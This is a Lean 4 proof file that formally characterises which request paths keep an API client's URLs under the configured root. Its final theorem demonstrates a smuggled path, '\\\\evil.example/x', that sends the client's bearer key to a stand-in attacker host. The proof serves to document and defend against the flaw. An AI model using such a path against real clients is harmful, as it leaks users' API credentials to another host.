import SeriesClient.Proofs.Http.Root

/-! Which requests stay under the root of the API. A path is taken as a reference relative to the root
with a slash at its end, so a path with a scheme, one that still opens with a slash of either kind and
one that climbs too high lead elsewhere; every other path stays under every root that is an address
without a query. -/

namespace SeriesClient.Http

open Url

/-- What a path is taken for: a reference without the slashes that it opens with. -/
def reference (path : String) : List Char := clean (path.toList.dropWhile (· == '/'))

/-- A path that never leads out of the place it is relative to: it names no scheme, does not open with
a slash once blanks have been left out, and climbs no higher than it has descended. -/
def Confined (path : String) : Prop :=
  splitScheme? (reference path) = none ∧ (reference path).head?.any isEitherSlash = false ∧
    stays [] (splitSegments true (pathPart (reference path))) = true

instance (path : String) : Decidable (Confined path) := inferInstanceAs (Decidable (_ ∧ _))

/-- A root without a query and a fragment and without blanks at its end. -/
structure PlainRoot (root : String) : Prop where
  plain : ∀ c ∈ root.toList, endsPath c = false
  ends : ∀ c ∈ root.toList.getLast?, 0x20 < c.toNat

theorem plainRoot_of_all {root : String}
    (hplain : (root.toList.all fun c => !endsPath c) = true)
    (hends : (root.toList.getLast?.all fun c => decide (0x20 < c.toNat)) = true) : PlainRoot root where
  plain := by simpa using hplain
  ends c hc := by simpa [Option.mem_def.1 hc] using hends

def slashed (path : List Char) : List Char := if path.getLast? = some '/' then path else path ++ ['/']

/-- The URL has the scheme, the host and the port of the root, and its path begins with the whole path
of the root. -/
def UnderRoot (root : String) (url : Url) : Prop :=
  ∃ u, Url.parse root = .ok u ∧ url.scheme = u.scheme ∧ url.host = u.host ∧ url.port = u.port ∧
    slashed u.path.chars <+: url.path.chars

theorem slashed_below (chars : List Char) : slashed chars <+: chars ++ ['/'] := by
  unfold slashed
  split_ifs
  · exact List.prefix_append _ _
  · exact List.prefix_refl _

theorem chars_concat_nil (place : List (List Char)) :
    (Path.segments (place ++ [[]])).chars = (Path.segments place).chars ++ ['/'] := by
  simp [Path.chars]

theorem slashed_concat_nil (place : List (List Char)) :
    slashed (Path.segments (place ++ [[]])).chars = (Path.segments (place ++ [[]])).chars := by
  rw [chars_concat_nil, slashed, if_pos (by simp)]

theorem parse_of_ofConfig {config : ClientConfig} {api : Api} (h : Api.ofConfig config = .ok api) :
    Url.parse (rootText config.url) = .ok api.base := by
  unfold Api.ofConfig at h
  cases hbase : Url.parse (rootText config.url) with
  | error fault => rw [hbase] at h; cases h
  | ok base =>
    rw [hbase] at h
    cases h
    rfl

/-- What paths are relative to ends in an empty segment, and a URL with a path below it is under the
root. -/
theorem underRoot_of_base {config : ClientConfig} {api : Api} (hroot : PlainRoot config.url)
    (hapi : Api.ofConfig config = .ok api) (hhttp : IsHttp api.base.scheme) :
    ∃ place, api.base.path = .segments (place ++ [[]]) ∧ ∀ url : Url,
      url.scheme = api.base.scheme → url.host = api.base.host → url.port = api.base.port →
      (Path.segments (place ++ [[]])).chars <+: url.path.chars → UnderRoot config.url url := by
  have hbase := parse_of_ofConfig hapi
  by_cases hslash : config.url.toList.getLast? = some '/'
  · rw [rootText, if_pos hslash] at hbase
    obtain ⟨front, hfront⟩ := List.getLast?_eq_some_iff.1 hslash
    have habsolute := hbase
    rw [parse_eq, hfront, clean_slash] at habsolute
    obtain ⟨-, -, -, place, hpath, -⟩ := absolute_slash habsolute hhttp fun c hc =>
      hroot.plain c (hfront ▸ List.mem_append_left _ (mem_of_cleanFront hc))
    refine ⟨place, hpath, fun url hscheme hhost hport hprefix => ?_⟩
    refine ⟨api.base, hbase, hscheme, hhost, hport, ?_⟩
    rw [hpath, slashed_concat_nil]
    exact hprefix
  · rw [rootText, if_neg hslash, parse_eq, String.toList_append] at hbase
    rw [show "/".toList = ['/'] from rfl, clean_slash] at hbase
    obtain ⟨u, hu, hsame, place, hpath, hplace⟩ := absolute_slash hbase hhttp fun c hc =>
      hroot.plain c (mem_of_cleanFront hc)
    rw [← clean_eq hroot.ends, ← parse_eq] at hu
    refine ⟨place, hpath, fun url hscheme hhost hport hprefix => ?_⟩
    rw [hsame] at hscheme hhost hport
    refine ⟨u, hu, hscheme, hhost, hport, ?_⟩
    rcases hplace with hplace | hplace
    · rw [hplace]
      refine (slashed_below _).trans ?_
      rw [← chars_concat_nil]
      exact hprefix
    · rw [hplace, slashed_concat_nil]
      exact hprefix

theorem join_eq {base : Url} {names : List (List Char)} {text : String}
    (hfile : isFile base.scheme = false) (hnames : base.path = .segments names)
    (hscheme : splitScheme? (clean text.toList) = none) :
    base.join text = relative base (clean text.toList) := by
  unfold join parseWith
  dsimp only
  rw [hscheme, hnames]
  dsimp only
  split
  · next rest hchars => rw [hchars]; rfl
  · next hopaque _ => cases hopaque
  · rw [if_neg (by simp [hfile])]

section
variable {base : Url} {c : Char} {rest : List Char}

/-- Two slashes name a host, and only the scheme is taken from the base. -/
theorem relative_of_slashes {base' : Url} (hslash : isEitherSlash c = true)
    (hends : endsPath c = false) (hsecond : rest.head?.any isEitherSlash = true)
    (hscheme : base.scheme = base'.scheme) : relative base (c :: rest) = relative base' (c :: rest) := by
  simp only [relative, hslash, hends, hsecond, hscheme, Bool.false_eq_true, if_true, if_false]

/-- One slash names a place on the host of the base. -/
theorem relative_of_slash (hslash : isEitherSlash c = true) (hends : endsPath c = false)
    (hsecond : rest.head?.any isEitherSlash = false) : relative base (c :: rest) =
      .ok (withPath base (pathFrom base.scheme [] (pathPart rest)) (tailPart rest)) := by
  simp only [relative, hslash, hends, hsecond, Bool.false_eq_true, if_true, if_false]

/-- Without a slash the path goes on from that of the base. -/
theorem relative_of_name (hslash : isEitherSlash c = false) (hends : endsPath c = false) :
    relative base (c :: rest) = .ok (withPath base
      (pathFrom base.scheme base.segmentsOf.dropLast (pathPart (c :: rest))) (tailPart (c :: rest))) := by
  simp only [relative, hslash, hends, Bool.false_eq_true, if_false]

theorem relative_of_ends (hends : endsPath c = true) :
    relative base (c :: rest) = .ok (keepPath base (c :: rest)) := by
  simp only [relative, hends, if_true]

end

theorem prefix_of_stays {place segments : List (List Char)} (h : stays [] segments = true)
    (hsegments : segments ≠ []) :
    (Path.segments (place ++ [[]])).chars <+: (Path.segments (walk false place segments)).chars := by
  have hwalk : walk false (place ++ []) segments = place ++ walk false [] segments :=
    walk_of_stays h
  rw [List.append_nil] at hwalk
  rw [hwalk, chars_concat_nil]
  obtain ⟨name, names, hnames⟩ := List.exists_cons_of_ne_nil
    (walk_ne_nil false [] hsegments)
  simp only [hnames, Path.chars, List.flatMap_append, List.flatMap_cons, List.cons_append]
  exact (List.prefix_append_right_inj _).2 (List.prefix_append ['/'] _)

theorem keepPath_eq (base : Url) (chars : List Char) :
    ∃ query fragment, keepPath base chars = { base with query, fragment } := by
  unfold keepPath
  split
  · exact ⟨_, _, rfl⟩
  · exact ⟨_, _, rfl⟩
  · exact ⟨_, _, rfl⟩

theorem urlOf_of_confined {config : ClientConfig} {api : Api} {path : String}
    (hroot : PlainRoot config.url) (hapi : Api.ofConfig config = .ok api)
    (hhttp : IsHttp api.base.scheme) (h : Confined path) :
    ∃ url, api.urlOf path = .ok url ∧ UnderRoot config.url url := by
  obtain ⟨hscheme, hslash, hstays⟩ := h
  obtain ⟨place, hpath, hunder⟩ := underRoot_of_base hroot hapi hhttp
  have hjoin : api.base.join (String.ofList (path.toList.dropWhile (· == '/'))) =
      relative api.base (reference path) := by
    rw [join_eq hhttp.not_file hpath (by rw [String.toList_ofList]; exact hscheme),
      String.toList_ofList]
    rfl
  rw [Api.urlOf, hjoin]
  have hkeep : ∀ chars, UnderRoot config.url (keepPath api.base chars) := fun chars => by
    obtain ⟨query, fragment, hkeep⟩ := keepPath_eq api.base chars
    rw [hkeep]
    exact hunder _ rfl rfl rfl (hpath ▸ List.prefix_refl _)
  cases hreference : reference path with
  | nil => exact ⟨_, rfl, hkeep []⟩
  | cons c rest =>
    rw [hreference] at hslash hstays
    cases hends : endsPath c with
    | true =>
      rw [relative_of_ends hends]
      exact ⟨_, rfl, hkeep _⟩
    | false =>
      rw [relative_of_name hslash hends]
      refine ⟨_, rfl, hunder _ rfl rfl rfl ?_⟩
      rw [segmentsOf, hpath, List.dropLast_concat, pathFrom_eq hhttp.not_file, hhttp.special]
      exact prefix_of_stays hstays (splitSegments_ne_nil _ _)

def site (scheme : String) (host : Nat) (name : Char) : Url where
  scheme := scheme.toList
  userinfo := none
  host := some (.ipv6 [0, 0, 0, 0, 0, 0, 0, host])
  port := none
  path := .segments [[name], []]
  query := none
  fragment := none

structure Hosts (root scheme : String) (host : Nat) (name : Char) : Prop where
  plain : PlainRoot root
  base : Api.ofConfig { url := root } = .ok ⟨site scheme host name, none, false⟩
  parse : Url.parse root = .ok { site scheme host name with path := .segments [[name]] }
  named : slashed (Path.segments [[name]]).chars = ['/', name, '/']

theorem hosts_a : Hosts "http://[::1]/a" "http" 1 'a' :=
  ⟨plainRoot_of_all rfl rfl, rfl, rfl, rfl⟩

theorem hosts_b : Hosts "http://[::1]/b" "http" 1 'b' :=
  ⟨plainRoot_of_all rfl rfl, rfl, rfl, rfl⟩

theorem hosts_secure : Hosts "https://[::1]/a" "https" 1 'a' :=
  ⟨plainRoot_of_all rfl rfl, rfl, rfl, rfl⟩

theorem hosts_other : Hosts "http://[::2]/a" "http" 2 'a' :=
  ⟨plainRoot_of_all rfl rfl, rfl, rfl, rfl⟩

def StaysEverywhere (path : String) : Prop :=
  ∀ config api, PlainRoot config.url → Api.ofConfig config = .ok api → IsHttp api.base.scheme →
    ∃ url, api.urlOf path = .ok url ∧ UnderRoot config.url url

theorem join_of_urlOf {api : Api} {path : String} {url : Url} (h : api.urlOf path = .ok url) :
    api.base.join (String.ofList (path.toList.dropWhile (· == '/'))) = .ok url := by
  unfold Api.urlOf at h
  split at h
  · next hjoin => rw [hjoin, Except.ok.inj h]
  · cases h

variable {path root scheme : String} {host : Nat} {name : Char}

/-- At a site, such a path leads to the host of the site and below its one segment. -/
theorem StaysEverywhere.join (h : StaysEverywhere path) (hsite : Hosts root scheme host name)
    (hhttp : IsHttp scheme.toList) : ∃ url,
      (site scheme host name).join (String.ofList (path.toList.dropWhile (· == '/'))) = .ok url ∧
      url.scheme = scheme.toList ∧ url.host = some (.ipv6 [0, 0, 0, 0, 0, 0, 0, host]) ∧
      ['/', name, '/'] <+: url.path.chars := by
  obtain ⟨url, hurl, u, hu, hscheme, hhost, -, hpath⟩ :=
    h { url := root } ⟨site scheme host name, none, false⟩ hsite.plain hsite.base hhttp
  obtain rfl := Except.ok.inj (hsite.parse.symm.trans hu)
  have hjoin := join_of_urlOf hurl
  dsimp only at hjoin
  rw [hsite.named] at hpath
  exact ⟨url, hjoin, hscheme, hhost, hpath⟩

theorem StaysEverywhere.relative (h : StaysEverywhere path) (hsite : Hosts root scheme host name)
    (hhttp : IsHttp scheme.toList) (hscheme : splitScheme? (reference path) = none) : ∃ url,
      Url.relative (site scheme host name) (reference path) = .ok url ∧
      url.host = some (.ipv6 [0, 0, 0, 0, 0, 0, 0, host]) ∧ ['/', name, '/'] <+: url.path.chars := by
  obtain ⟨url, hjoin, -, hhost, hpath⟩ := h.join hsite hhttp
  rw [join_eq hhttp.not_file rfl (by rw [String.toList_ofList]; exact hscheme),
    String.toList_ofList] at hjoin
  exact ⟨url, hjoin, hhost, hpath⟩

theorem no_scheme_of_staysEverywhere (h : StaysEverywhere path) :
    splitScheme? (reference path) = none := by
  by_contra hsome
  obtain ⟨⟨own, rest⟩, hown⟩ := Option.ne_none_iff_exists'.1 hsome
  -- A site in the other of the two schemes tells the path from one under the root.
  have hother : ∀ {root scheme host name}, Hosts root scheme host name → IsHttp scheme.toList →
      own = scheme.toList := fun hsite hhttp => by
    obtain ⟨url, hjoin, hscheme, -⟩ := h.join hsite hhttp
    by_contra hne
    refine hne ?_
    rw [← hscheme]
    unfold Url.join parseWith at hjoin
    dsimp only at hjoin
    rw [String.toList_ofList, ← reference, hown] at hjoin
    refine (scheme_of_withScheme ?_ hjoin).symm
    simpa [site] using Ne.symm hne
  have hplain := hother hosts_a (Or.inl rfl)
  have hsecure := hother hosts_secure (Or.inr rfl)
  rw [hplain] at hsecure
  cases hsecure

theorem absurd_prefix {chars : List Char} (ha : ['/', 'a', '/'] <+: chars)
    (hb : ['/', 'b', '/'] <+: chars) : False := by
  obtain ⟨rest, rfl⟩ := ha
  obtain ⟨rest', hrest'⟩ := hb
  cases hrest'

theorem no_slash_of_staysEverywhere (h : StaysEverywhere path) :
    (reference path).head?.any isEitherSlash = false := by
  have hscheme := no_scheme_of_staysEverywhere h
  obtain ⟨url, hurl, hhost, hprefix⟩ := h.relative hosts_a (Or.inl rfl) hscheme
  obtain ⟨url', hurl', -, hprefix'⟩ := h.relative hosts_b (Or.inl rfl) hscheme
  obtain ⟨url'', hurl'', hhost'', -⟩ := h.relative hosts_other (Or.inl rfl) hscheme
  cases hreference : reference path with
  | nil => rfl
  | cons c rest =>
    rw [hreference] at hurl hurl' hurl''
    rw [List.head?_cons, Option.any_some]
    by_contra hslash
    rw [Bool.not_eq_false] at hslash
    have hends : endsPath c = false := by
      rcases Bool.or_eq_true_iff.1 hslash with hc | hc <;> rw [of_decide_eq_true hc] <;> rfl
    cases hsecond : rest.head?.any isEitherSlash with
    | true =>
      have hsame : relative (site "http" 1 'a') (c :: rest) = relative (site "http" 2 'a') (c :: rest) :=
        relative_of_slashes hslash hends hsecond rfl
      rw [hsame, hurl''] at hurl
      cases hurl
      rw [hhost] at hhost''
      cases hhost''
    | false =>
      rw [relative_of_slash hslash hends hsecond] at hurl hurl'
      cases hurl
      cases hurl'
      exact absurd_prefix hprefix hprefix'

theorem stays_of_staysEverywhere (h : StaysEverywhere path) :
    stays [] (splitSegments true (pathPart (reference path))) = true := by
  have hscheme := no_scheme_of_staysEverywhere h
  have hslash := no_slash_of_staysEverywhere h
  obtain ⟨url, hurl, -, hprefix⟩ := h.relative hosts_a (Or.inl rfl) hscheme
  obtain ⟨url', hurl', -, hprefix'⟩ := h.relative hosts_b (Or.inl rfl) hscheme
  cases hreference : reference path with
  | nil => rfl
  | cons c rest =>
    rw [hreference] at hurl hurl' hslash
    cases hends : endsPath c with
    | true =>
      have hempty : pathPart (c :: rest) = [] := by simp [pathPart, hends]
      rw [hempty]
      rfl
    | false =>
      rw [relative_of_name hslash hends] at hurl hurl'
      by_contra hstays
      rw [Bool.not_eq_true] at hstays
      have hwalk := walk_of_not_stays hstays (show opensAsDrive ['a'] = false from rfl)
        (show opensAsDrive ['b'] = false from rfl)
      have hpath : ∀ name, (pathFrom (site "http" 1 name).scheme
          (site "http" 1 name).segmentsOf.dropLast (pathPart (c :: rest))) =
          .segments (walk false [[name]] (splitSegments true (pathPart (c :: rest)))) := fun name =>
        pathFrom_eq rfl _
      rw [hpath] at hurl hurl'
      cases hurl
      cases hurl'
      have hother : ['/', 'b', '/'] <+:
          (Path.segments (walk false [['b']] (splitSegments true (pathPart (c :: rest))))).chars :=
        hprefix'
      rw [← hwalk] at hother
      exact absurd_prefix hprefix hother

def isOrdinary (c : Char) : Bool := c.isAlphanum || c = '-' || c = '_' || c = '/'

theorem ne_of_isOrdinary {c d : Char} (hd : isOrdinary d = false) (hc : isOrdinary c = true) : c ≠ d := by
  rintro rfl
  rw [hd] at hc
  cases hc

theorem low_of_isOrdinary {c : Char} (h : isOrdinary c = true) : 0x20 < c.toNat := by
  by_contra hlow
  have hnot : ∀ n < 0x21, isOrdinary (Char.ofNat n) = false := by decide
  rw [← Char.ofNat_toNat c, hnot c.toNat (by omega)] at h
  cases h

theorem splitScheme?_of_no_colon {chars : List Char} (h : ∀ c ∈ chars, c ≠ ':') :
    splitScheme? chars = none := by
  unfold splitScheme?
  split_ifs
  · split
    · next rest hrest =>
      exact absurd rfl (h ':' (List.dropWhile_subset isSchemeChar (hrest ▸ List.mem_cons_self)))
    · rfl
  · rfl

theorem mem_of_mem_splitSegments {chars segment : List Char} {c : Char}
    (h : segment ∈ splitSegments true chars) (hc : c ∈ segment) : c ∈ chars := by
  induction chars generalizing segment with
  | nil =>
    rw [List.mem_singleton.1 h] at hc
    cases hc
  | cons d chars ih =>
    rw [splitSegments] at h
    split_ifs at h
    · rcases List.mem_cons.1 h with rfl | h
      · cases hc
      · exact List.mem_cons_of_mem _ (ih h hc)
    · cases hsplit : splitSegments true chars with
      | nil => exact absurd hsplit (splitSegments_ne_nil _ _)
      | cons first segments =>
        rw [hsplit] at h ih
        rcases List.mem_cons.1 h with rfl | h
        · rcases List.mem_cons.1 hc with rfl | hc
          · exact List.mem_cons_self
          · exact List.mem_cons_of_mem _ (ih List.mem_cons_self hc)
        · exact List.mem_cons_of_mem _ (ih (List.mem_cons_of_mem _ h) hc)

theorem toNat_of_isOrdinary {c : Char} (h : isOrdinary c = true) : c.toNat < 128 := by
  unfold isOrdinary Char.isAlphanum Char.isAlpha Char.isUpper Char.isLower Char.isDigit at h
  simp only [Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq, UInt32.le_iff_toNat_le,
    ge_iff_le] at h
  rcases h with ((h | rfl) | rfl) | rfl
  · rcases h with (h | h) | h
    · exact Nat.lt_of_le_of_lt h.2 (by decide)
    · exact Nat.lt_of_le_of_lt h.2 (by decide)
    · exact Nat.lt_of_le_of_lt h.2 (by decide)
  all_goals decide

theorem toLower_of_isOrdinary {c : Char} (h : isOrdinary c = true) :
    c.toLower ≠ '.' ∧ c.toLower ≠ '%' := by
  have hall : ∀ n < 128, isOrdinary (Char.ofNat n) = true →
      (Char.ofNat n).toLower ≠ '.' ∧ (Char.ofNat n).toLower ≠ '%' := by decide
  have hc := hall c.toNat (toNat_of_isOrdinary h)
  rw [Char.ofNat_toNat] at hc
  exact hc h

theorem not_dots_of_isOrdinary {segment : List Char} (h : ∀ c ∈ segment, isOrdinary c = true) :
    isDotDot segment = false ∧ isDot segment = false := by
  cases segment with
  | nil => exact ⟨rfl, rfl⟩
  | cons c rest =>
    obtain ⟨hdot, hpercent⟩ := toLower_of_isOrdinary (h c List.mem_cons_self)
    have hc : c ≠ '.' := ne_of_isOrdinary rfl (h c List.mem_cons_self)
    simp [isDotDot, isDot, hdot, hpercent, hc]

/-- Segments without dots and percent signs go nowhere but down. -/
theorem stays_of_plain {path segments : List (List Char)}
    (h : ∀ segment ∈ segments, ∀ c ∈ segment, isOrdinary c = true) : stays path segments = true := by
  induction segments generalizing path with
  | nil => rfl
  | cons segment rest ih =>
    obtain ⟨hsegment, hrest⟩ := List.forall_mem_cons.1 h
    obtain ⟨hdots, hdot⟩ := not_dots_of_isOrdinary hsegment
    rw [stays, hdots, hdot, if_neg Bool.false_ne_true, if_neg Bool.false_ne_true]
    exact ih hrest

theorem ne_slash_of_dropWhile {c : Char} {chars rest : List Char}
    (h : chars.dropWhile (· == '/') = c :: rest) : c ≠ '/' := by
  intro hc
  have hhead := List.head?_dropWhile_not (· == '/') chars
  rw [h] at hhead
  simp [hc] at hhead

/-- A path of letters, digits, hyphens, underscores and slashes stays under every root. -/
theorem confined_of_isOrdinary {path : String} (h : ∀ c ∈ path.toList, isOrdinary c = true) :
    Confined path := by
  have hrest : ∀ c ∈ path.toList.dropWhile (· == '/'), isOrdinary c = true := fun c hc =>
    h c (List.dropWhile_subset _ hc)
  rw [Confined, reference, clean_eq_self fun c hc => low_of_isOrdinary (hrest c hc)]
  refine ⟨splitScheme?_of_no_colon fun c hc => ne_of_isOrdinary rfl (hrest c hc), ?_, ?_⟩
  · cases hfront : path.toList.dropWhile (· == '/') with
    | nil => rfl
    | cons c rest =>
      rw [hfront] at hrest
      have hslash : c ≠ '/' := ne_slash_of_dropWhile hfront
      have hbackslash : c ≠ '\\' := ne_of_isOrdinary rfl (hrest c List.mem_cons_self)
      simp [isEitherSlash, hslash, hbackslash]
  · exact stays_of_plain fun segment hsegment c hc =>
      hrest c (List.takeWhile_subset _ (mem_of_mem_splitSegments hsegment hc))

/-- What a call asks for differs from its place in the query at most. -/
theorem target_eq (joined : Url) (call : Call) :
    ∃ query, target joined call = { joined with query } := by
  cases call with
  | get path parameters =>
    rw [target]
    unfold addParameters
    split
    · split_ifs
      · exact ⟨_, rfl⟩
      · exact ⟨_, rfl⟩
    · exact ⟨_, rfl⟩
  | post path body => exact ⟨_, rfl⟩
  | put path body => exact ⟨_, rfl⟩

/-- The paths that name a place under every root that is an address without a query are the ones that
are confined; and a request for such a path goes to a place under the root, whatever else it asks for
and whoever is named in the root. A path of letters, digits, hyphens, underscores and slashes is one. -/
theorem confined_iff_stays_under_root (path : String) :
    (Confined path ↔ StaysEverywhere path) ∧
    (Confined path → ∀ config api call request, PlainRoot config.url →
      Api.ofConfig config = .ok api → call.path = path → api.request call = .ok request →
      UnderRoot config.url request.url) ∧
    ((∀ c ∈ path.toList, isOrdinary c = true) → Confined path) := by
  refine ⟨⟨fun h config api hroot hapi hhttp => urlOf_of_confined hroot hapi hhttp h, fun h =>
    ⟨no_scheme_of_staysEverywhere h, no_slash_of_staysEverywhere h, stays_of_staysEverywhere h⟩⟩, ?_,
    confined_of_isOrdinary⟩
  rintro h config api call request hroot hapi rfl hrequest
  obtain ⟨joined, hjoined, hscheme, hurl, -⟩ := Api.request_cases hrequest
  obtain ⟨query, htarget⟩ := target_eq joined call
  rw [htarget] at hscheme hurl
  have hhttp : IsHttp api.base.scheme := by
    rw [← scheme_of_join (by rw [String.toList_ofList]; exact h.1) (join_of_urlOf hjoined)]
    exact hscheme
  obtain ⟨url, hplace, hunder⟩ := urlOf_of_confined hroot hapi hhttp h
  obtain rfl := Except.ok.inj (hjoined.symm.trans hplace)
  rw [hurl]
  exact hunder

theorem confined_iff_stays_under_root_stream : ∃ api request,
    Api.ofConfig { url := "http://[::1]/a" } = .ok api ∧
    api.request (.get "u/d/s/data" [("q", "length")]) = .ok request ∧
    request.url.text = "http://[::1]/a/u/d/s/data?q=length" ∧
    UnderRoot "http://[::1]/a" request.url := by
  have htext : ((Api.mk (site "http" 1 'a') none false).request
      (.get "u/d/s/data" [("q", "length")])).toOption.map (·.url.text) =
      some "http://[::1]/a/u/d/s/data?q=length" := by decide +kernel
  cases hrequest : (Api.mk (site "http" 1 'a') none false).request
      (.get "u/d/s/data" [("q", "length")]) with
  | error fault => rw [hrequest] at htext; cases htext
  | ok request =>
    rw [hrequest] at htext
    refine ⟨_, request, hosts_a.base, hrequest, Option.some.inj htext, ?_⟩
    exact (confined_iff_stays_under_root "u/d/s/data").2.1 (by decide +kernel)
      { url := "http://[::1]/a" } _ _ request hosts_a.plain hosts_a.base rfl hrequest

def localRoot : ClientConfig := { url := "http://localhost:8000/api/v1", apiKey := some "key" }

/-- A path that opens with two backslashes takes the key to another host. -/
theorem leaves_root : PlainRoot localRoot.url ∧ ∃ api request, Api.ofConfig localRoot = .ok api ∧
    api.request (.get "\\\\evil.example/x" []) = .ok request ∧
    request.url.text = "http://evil.example/x" ∧ request.authorization = ["Bearer key"] ∧
    ¬ UnderRoot localRoot.url request.url := by
  refine ⟨plainRoot_of_all rfl rfl, _, _, rfl, rfl, by decide +kernel, rfl, ?_⟩
  rintro ⟨u, hu, -, hhost, -⟩
  have hlocal : (Url.parse localRoot.url).toOption.bind (·.host) =
      some (.domain "localhost".toList) := by decide +kernel
  rw [hu] at hlocal
  exact absurd (hhost.trans hlocal) (by decide +kernel)

end SeriesClient.Http
